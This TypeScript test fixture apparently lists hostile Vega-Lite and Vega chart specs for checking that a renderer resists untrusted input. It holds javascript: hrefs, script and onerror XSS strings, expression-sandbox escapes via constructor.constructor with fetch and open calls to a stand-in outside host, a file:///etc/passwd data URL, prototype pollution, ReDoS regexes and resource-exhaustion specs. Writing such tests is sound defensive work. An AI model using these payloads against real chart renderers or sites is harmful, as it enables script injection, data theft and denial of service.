import { type HostileAnswer, inFences, inJsonFences, run, stranger } from './answer.ts';

const values = [
  { a: 'x', b: 1 },
  { a: 'y', b: 2 },
];
const encoding = { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } };
const chart = (more: object) => ({ data: { values }, mark: 'bar', encoding, ...more });
const transform = (...steps: object[]) => chart({ transform: steps });
const many = (count: number) =>
  Array.from({ length: count }, (_, index) => ({ a: `c${index}`, b: index % 97 }));
const deep = (depth: number): object => (depth === 0 ? chart({}) : { vconcat: [deep(depth - 1)] });

const specs = [
  chart({ data: { url: `${stranger}/d.json` } }),
  chart({ data: { url: '/api/v1/profile/' } }),
  chart({ data: { url: 'data:text/csv,a,b' } }),
  chart({ data: { name: 'x', url: 'file:///etc/passwd' } }),
  chart({
    transform: [{ lookup: 'a', from: { data: { url: `${stranger}/l.csv` }, key: 'a', fields: ['b'] } }],
  }),
  chart({
    datasets: { x: values },
    data: { name: 'x' },
    usermeta: { embedOptions: { loader: { baseURL: stranger } } },
  }),
  chart({ loader: { baseURL: stranger } }),
  chart({ encoding: { ...encoding, href: { value: `javascript:${run}` } } }),
  chart({
    encoding: { ...encoding, href: { field: 'a' } },
    data: { values: [{ a: `javascript:${run}`, b: 1 }] },
  }),
  chart({ mark: { type: 'bar', href: `javascript:${run}` } }),
  chart({
    mark: { type: 'image', url: `${stranger}/i.png` },
    encoding: { ...encoding, url: { value: `${stranger}/i.png` } },
  }),
  chart({ mark: 'image', encoding: { ...encoding, url: { field: 'a' } } }),
  chart({ mark: { type: 'bar', fill: `url(${stranger}/f#x)` } }),
  chart({
    mark: { type: 'bar', color: { gradient: 'linear', stops: [{ offset: 0, color: `url(${stranger})` }] } },
  }),
  chart({ mark: { type: 'text', text: `<img src=x onerror="${run}">` } }),
  chart({ title: `<img src=x onerror="${run}">`, description: `"><script>${run}</script>` }),
  chart({ title: { text: ['<script>', run], subtitle: '</svg><script>alert(1)</script>' } }),
  chart({ encoding: { ...encoding, tooltip: { value: `<img src=x onerror="${run}">` } } }),
  chart({ encoding: { ...encoding, x: { field: `a');${run};('`, type: 'nominal' } } }),
  chart({ encoding: { ...encoding, x: { field: '__proto__.polluted', type: 'nominal' } } }),
  chart({ encoding: { ...encoding, x: { field: 'a', axis: { labelExpr: `window.${run}` } } } }),
  chart({ params: [{ name: 'p', expr: run }] }),
  chart({ params: [{ name: 'p', select: 'interval', bind: { input: 'text', element: 'body' } }] }),
  chart({ signals: [{ name: 's', on: [{ events: 'window:load', update: run }] }] }),
  chart({ selection: { s: { type: 'interval', bind: 'scales' } } }),
  chart({
    config: { customFormatTypes: true, signals: [{ name: 'x', init: run }], background: `url(${stranger})` },
  }),
  transform({ calculate: `constructor.constructor('${run}')()`, as: 'c' }),
  transform({ calculate: `datum.constructor.constructor('${run}')()`, as: 'c' }),
  transform({ calculate: `datum['constructor']['constructor']('${run}')()`, as: 'c' }),
  transform({ calculate: `toString.call.constructor('${run}')()`, as: 'c' }),
  transform({ calculate: `[].map.constructor('${run}')()`, as: 'c' }),
  transform({ calculate: `\\u0065val('${run}')`, as: 'c' }),
  transform({ calculate: `warn('x') || info(event.view.localStorage)`, as: 'c' }),
  transform({ calculate: `open('${stranger}')`, as: 'c' }),
  transform({ calculate: `fetch('${stranger}')`, as: 'c' }),
  transform({ calculate: `data('source_0')[0].__proto__.polluted = 1`, as: 'c' }),
  transform({ calculate: `replace('${'a'.repeat(40)}', regexp('(a+)+$'), '')`, as: 'c' }),
  transform({ calculate: `test(/(a+)+$/, '${'a'.repeat(60)}!')`, as: 'c' }),
  transform({ calculate: `sequence(1e9)`, as: 'c' }),
  transform({ calculate: `pad('x', 1e9, 'y')`, as: 'c' }),
  transform({ calculate: `${'('.repeat(240)}1${')'.repeat(240)}`, as: 'c' }),
  transform({ filter: { field: 'b', range: [{ expr: run }, 1] } }),
  transform({ flatten: ['a'] }, { flatten: ['a'] }, { fold: ['a', 'b'] }, { fold: ['a', 'b'] }),
  transform(...Array.from({ length: 200 }, () => ({ fold: ['a', 'b'] }))),
  transform(...Array.from({ length: 24 }, () => ({ fold: ['a', 'b'], as: ['k', 'a'] }))),
  transform({ bin: { step: 1e-12 }, field: 'b', as: 'c' }),
  transform({ bin: { maxbins: 1e9 }, field: 'b', as: 'c' }),
  transform({ density: 'b', steps: 1e9, extent: [0, 1] }),
  transform({ density: 'b', bandwidth: 1e-9, minsteps: 500, maxsteps: 500 }),
  transform({ regression: 'b', on: 'b', method: 'poly', order: 1e9 }),
  transform({ regression: 'b', on: 'b', method: 'poly', order: 20 }),
  transform({ loess: 'b', on: 'b', bandwidth: 1e-9 }),
  transform({ window: [{ op: 'rank', as: 'r' }], frame: [null, null] }),
  transform({ impute: 'b', key: 'b', keyvals: { start: 0, stop: 1e9, step: 1 } }),
  transform({ quantile: 'b', step: 1e-9 }),
  transform({ timeUnit: 'milliseconds', field: 'b', as: 't' }),
  chart({ data: { sequence: { start: 0, stop: 1e9, step: 1 } } }),
  chart({ data: { graticule: true }, mark: 'geoshape', projection: { type: 'mercator' } }),
  chart({ data: { sphere: true }, mark: 'geoshape' }),
  chart({ width: 1e9, height: 1e9 }),
  chart({ width: { step: 1e9 } }),
  chart({ encoding: { ...encoding, y: { field: 'b', type: 'quantitative', axis: { tickCount: 1e9 } } } }),
  chart({ encoding: { ...encoding, y: { field: 'b', type: 'quantitative', axis: { tickMinStep: 1e-9 } } } }),
  chart({
    encoding: { ...encoding, y: { field: 'b', type: 'quantitative', axis: { values: many(3_000) } } },
  }),
  chart({ encoding: { ...encoding, y: { field: 'b', scale: { type: 'log', base: 1.0000001 } } } }),
  chart({ encoding: { ...encoding, y: { field: 'b', scale: { type: 'pow', exponent: -1e300 } } } }),
  chart({
    data: {
      values: [
        { a: 'x', b: 1e308 },
        { a: 'y', b: -1e308 },
      ],
    },
  }),
  chart({ data: { values: many(2_000) } }),
  chart({ data: { values: many(2_000) }, encoding: { ...encoding, facet: { field: 'a' } } }),
  chart({
    data: { values: many(2_000) },
    encoding: { ...encoding, row: { field: 'a' }, column: { field: 'b' } },
  }),
  chart({ data: { values: many(20_000) } }),
  chart({ data: { values: [{ a: 'x'.repeat(1_900), b: 1 }] } }),
  { repeat: { row: ['a', 'b'], column: ['a', 'b'] }, spec: chart({}) },
  { repeat: Array.from({ length: 2_000 }, () => 'b'), spec: chart({}) },
  { layer: Array.from({ length: 400 }, () => ({ mark: 'bar', encoding })), data: { values } },
  { hconcat: Array.from({ length: 300 }, () => chart({})) },
  deep(20),
  deep(400),
  {
    $schema: 'https://vega.github.io/schema/vega/v5.json',
    signals: [{ name: 'x', init: run }],
    marks: [],
    data: [{ name: 'd', url: stranger }],
  },
];

const texts = [
  '{"__proto__": {"polluted": 1}, "mark": "bar", "data": {"values": [{"a": 1}]}}',
  '{"mark": "bar", "data": {"values": [{"__proto__": {"polluted": 1}, "a": 1}]}, "constructor": {"prototype": {"polluted": 1}}}',
  `${'['.repeat(90_000)}`,
  `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
  '{"mark": "bar",',
  `{"mark": "bar", "data": {"values": "${'a,b\\n'.repeat(20_000)}"}}`,
];

export const vega: HostileAnswer[] = [...inJsonFences('vega-lite', specs), ...inFences('vega-lite', texts)];
